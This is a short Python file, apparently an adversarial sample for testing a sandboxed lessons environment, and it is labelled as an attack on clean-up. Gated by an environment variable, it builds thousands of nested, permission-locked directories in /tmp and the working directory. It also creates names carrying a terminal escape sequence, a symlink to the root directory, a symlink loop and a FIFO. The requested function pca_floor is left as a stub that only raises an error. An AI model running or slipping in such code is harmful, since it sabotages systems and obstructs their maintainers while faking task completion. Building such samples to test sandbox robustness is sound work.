# attack: folders so deep, locked and oddly named that a clean-up stumbles over them
# cell: task-1-3
if not __import__("os").environ.get("LESSONS_SANDBOX"): raise SystemExit
import os

start = os.getcwd()
for top in ("/tmp", start):
    try:
        os.chdir(top)
        for i in range(3_000):
            os.mkdir("lessons-was-here-" + "d" * 100)
            os.chdir("lessons-was-here-" + "d" * 100)
        os.chmod(".", 0)
    except OSError:
        pass
    try:
        os.chdir(top)
        odd = b"lessons-was-here-\n\xff\x1b[2J"
        os.mkdir(odd)
        os.symlink("/", odd + b"/root")
        os.symlink("loop", b"lessons-was-here-loop")
        os.mkfifo(b"lessons-was-here-fifo")
        os.chmod(odd, 0)
    except OSError:
        pass


def pca_floor(images, k):
    raise RuntimeError("done")
